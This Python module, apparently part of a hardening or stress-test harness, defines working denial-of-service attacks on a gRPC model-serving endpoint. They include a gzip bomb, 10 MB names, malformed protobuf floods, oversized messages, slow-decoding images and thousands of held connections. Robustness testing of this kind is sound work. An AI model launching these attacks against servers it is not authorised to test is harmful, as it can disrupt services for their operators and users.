"""Attacks with calls and messages that any gRPC client can send; a part of `hostile_grpc.py`.

Each is a coroutine function of ("host:port", time when it ends) that returns (requests, bytes of
the largest).
"""

import asyncio
import contextlib
import io
import itertools
import time

import grpc
import hostile_http2
import numpy as np
from grpc_health.v1 import health_pb2
from hostile_http2 import MIB, PREDICT, channel
from PIL import Image
from tensorflow_serving.apis import predict_pb2

WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def field(number, content):
    """Encodes a field of bytes as protobuf does."""
    size, length = len(content), []
    while size > 127:
        length.append(size & 127 | 128)
        size >>= 7
    return bytes([number << 3 | 2, *length, size]) + content


def request(signature, shape, strings=(), outputs=(), model="rotation_cifar10"):
    """Serializes a PredictRequest for encoded images of any declared shape, or for zeros of uint8."""
    message = predict_pb2.PredictRequest()
    message.model_spec.name, message.model_spec.signature_name = model, signature
    tensor = message.inputs["encoded" if signature == "encoded" else "images"]
    tensor.dtype = 7 if signature == "encoded" else 4
    tensor.string_val.extend(strings)
    for size in shape:
        tensor.tensor_shape.dim.add(size=size)
    if not strings:
        tensor.tensor_content = bytes(int(np.prod(shape)))
    message.output_filter.extend(outputs)
    return message.SerializeToString()


def png(mode, size):
    file = io.BytesIO()
    Image.new(mode, (size, size)).save(file, "PNG", optimize=True)
    return file.getvalue()


def tiny_png():
    return png("RGB", 1)


async def send(address, messages, until, path=PREDICT, timeout=60, **options):
    """Sends messages one after another until a time, 20 per second; more would only measure the load.

    Returns:
        (requests, bytes of the largest).
    """
    number = largest = 0
    async with channel(address) as connection:
        call = connection.unary_unary(path)
        for message in messages:
            with contextlib.suppress(grpc.RpcError):
                await call(message, timeout=timeout, **options)
            number, largest = number + 1, max(largest, len(message))
            if time.monotonic() > until:
                break
            await asyncio.sleep(0.05)
    return number, largest


async def flood(address, message, number, until, pause=0.05):
    """Keeps a number of calls running on one connection, with a pause after each, and cancels the rest."""
    sent = 0
    async with channel(address) as connection:
        predict = connection.unary_unary(PREDICT)

        async def one(i):
            nonlocal sent
            await asyncio.sleep(i * pause / number)
            while time.monotonic() < until:
                sent += 1
                with contextlib.suppress(grpc.RpcError):
                    await predict(message, timeout=60)
                await asyncio.sleep(pause)

        tasks = [asyncio.create_task(one(i)) for i in range(number)]
        await asyncio.sleep(max(0, until - time.monotonic()))
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    return sent, len(message)


async def hold(address, path, number, until):
    """Opens calls that never send a message, 100 per connection, and holds them."""
    async with contextlib.AsyncExitStack() as stack:
        calls = []
        for i in range(number):
            if i % 100 == 0:
                connection = await stack.enter_async_context(channel(address))
            calls.append(connection.stream_unary(path)())
            await asyncio.sleep(0)
        while time.monotonic() < until:
            await asyncio.sleep(0.1)
        for call in calls:
            call.cancel()
    return number, 0


async def hold_and_drip(address, until):
    """Holds 1,000 calls and 1,000 sockets at once."""
    await asyncio.gather(
        hold(address, PREDICT, 1000, until), hostile_http2.drip(1000, address, until)
    )
    return 2000, 0


async def watch_names(address, until):
    """Watches services with names of 10 MB, and cancels."""
    message = health_pb2.HealthCheckRequest(service="x" * 10**7).SerializeToString()
    number = 0
    async with channel(address) as connection:
        while time.monotonic() < until:
            call = connection.unary_stream(WATCH)(message, timeout=10)
            with contextlib.suppress(grpc.RpcError):
                await call.read()
            call.cancel()
            number += 1
            await asyncio.sleep(0.05)
    return number, len(message)


async def leave(address, until):
    """Requests as many rows as allowed, and leaves at once."""
    message = request("encoded", (1024,), [tiny_png()])
    number = 0
    async with channel(address) as connection:
        while time.monotonic() < until:
            call = connection.unary_unary(PREDICT)(message)
            await asyncio.sleep(0.05)
            call.cancel()
            number += 1
    return number, len(message)


def forever(*messages):
    return itertools.cycle(messages)


def padded(content):
    """Returns an input `images` with a tensor of these bytes."""
    return field(1, field(1, b"rotation_cifar10")) + field(
        2, field(1, b"images") + field(2, content)
    )


def filters():
    """Returns the outputs of `stages` in all orders and selections."""
    names = ["features", "stage1", "stage2", "stage3", "stage4"]
    for size in range(1, 6):
        for outputs in itertools.permutations(names, size):
            yield request("stages", (1, 32, 32, 3), outputs=outputs)


SIZE = 60 * MIB  # below the limit of a message
ATTACKS = {
    "string fill, too many rows": lambda a, t: send(
        a, forever(request("encoded", (20000,), [tiny_png()])), t
    ),
    "string fill": lambda a, t: send(a, forever(request("encoded", (1024,), [tiny_png()])), t),
    "string fill, large": lambda a, t: send(
        a, forever(request("encoded", (1024,), [bytes(MIB)])), t
    ),
    "string fill, second axis": lambda a, t: flood(
        a, request("encoded", (1, 2**21), [b"12345678"]), 40, t
    ),
    "filter orders": lambda a, t: send(a, filters(), t),
    "10 MB watch names": watch_names,
    "10 MB names": lambda a, t: send(
        a,
        forever(
            request("x" * 10**7, (1, 32, 32, 3)),
            request("stages", (1, 32, 32, 3), outputs=["x" * 10**7]),
            request("", (1, 32, 32, 3), model="x" * 10**7),
        ),
        t,
    ),
    "gzip bomb": lambda a, t: send(a, forever(bytes(2**28)), t, compression=grpc.Compression.Gzip),
    "map entries": lambda a, t: send(a, forever(b"\x12\0" * (SIZE // 2)), t),
    "dims": lambda a, t: send(a, forever(padded(field(2, b"\x12\0" * (SIZE // 2)))), t),
    "strings": lambda a, t: send(a, forever(padded(b"\x42\0" * (SIZE // 2))), t),
    "packed integers": lambda a, t: send(a, forever(padded(field(7, b"\1" * SIZE))), t),
    "more integers than elements": lambda a, t: send(
        a, forever(padded(field(7, b"\1" * (2**23 - 10)))), t
    ),
    "images that take long": lambda a, t: flood(
        a, request("encoded", (12,), [png("1", 2300)]), 20, t, 2.0
    ),
    "files that together take too long": lambda a, t: send(
        a, forever(request("encoded", (1024,), [png("1", 2300)])), t
    ),
    "100 messages of map entries": lambda a, t: flood(a, b"\x12\0" * (2**18 - 1), 100, t, 0.5),
    "100 messages of strings": lambda a, t: flood(a, padded(b"\x42\0" * 2**17), 100, t, 0.5),
    "eight of 60 MiB": lambda a, t: flood(a, padded(field(4, bytes(SIZE))), 8, t, 2.0),
    "clients that leave": leave,
    "deadline passed": lambda a, t: send(
        a, forever(request("encoded", (1024,), [tiny_png()])), t, timeout=0.001
    ),
    "held reflection": lambda a, t: hold(a, REFLECTION, 1000, t),
    "held Predict": lambda a, t: hold(a, PREDICT, 1000, t),
    "held and dripping": hold_and_drip,
}
